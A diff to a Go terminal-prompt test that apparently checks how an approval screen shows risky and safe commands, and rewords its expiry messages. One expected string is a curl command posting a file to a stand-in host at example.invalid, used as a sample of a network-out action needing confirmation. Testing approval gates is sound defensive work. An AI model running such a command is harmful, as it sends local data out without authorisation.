@@ -85,7 +85,7 @@ func TestPromptOnATerminal(t *testing.T) {
 			id + "  pending  risk ", "where       " + key, "as          crt-", "a person typed it",
 			"boundary=namespace root=system; all that is required of it was verified",
 			"may         ", "network.out", "because     ", "CONFIRM  risk ", "curl -s -m 1 -d @x https://example.invalid/in", "SAFE  risk ",
-			"echo ran-$((40+2))", "Taken for denied at ",
+			"echo ran-$((40+2))", "Expires at ",
 		} {
 			if !strings.Contains(x.Screen(), want) {
 				t.Errorf("it does not show %q: %s", want, x.Screen())
@@ -195,6 +195,6 @@ func TestPromptOnATerminal(t *testing.T) {
 			t.Fatal(err)
 		}
 		x, id := asked(t, script...)
-		ended(t, x, id, "expired", "the time of approval "+id+" was over")
+		ended(t, x, id, "expired", "approval "+id+" expired at ")
 	})
 }
